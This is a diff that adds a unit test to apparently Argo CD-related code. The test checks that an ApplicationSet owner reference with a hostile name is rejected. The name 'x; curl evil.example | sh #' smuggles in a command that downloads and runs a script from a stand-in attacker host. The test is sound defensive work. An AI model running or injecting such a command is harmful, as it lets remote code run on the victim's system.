@@ -75,6 +75,20 @@ it.each([
   expect(clusterNameOf(app)).toBe(expected);
 });
 
+it('reads no owning ApplicationSet whose name would add to a command that shows it', () => {
+  const hostile = {
+    apiVersion: 'argoproj.io/v1alpha1',
+    kind: 'ApplicationSet',
+    name: 'x; curl evil.example | sh #',
+    uid: '1',
+  };
+  expect(
+    owningApplicationSet(
+      application({ metadata: { ownerReferences: [hostile] } }),
+    ),
+  ).toBeUndefined();
+});
+
 it('reads the owning ApplicationSet from the owner references', () => {
   expect(owningApplicationSet(application())).toEqual({
     namespace: 'openshift-gitops',
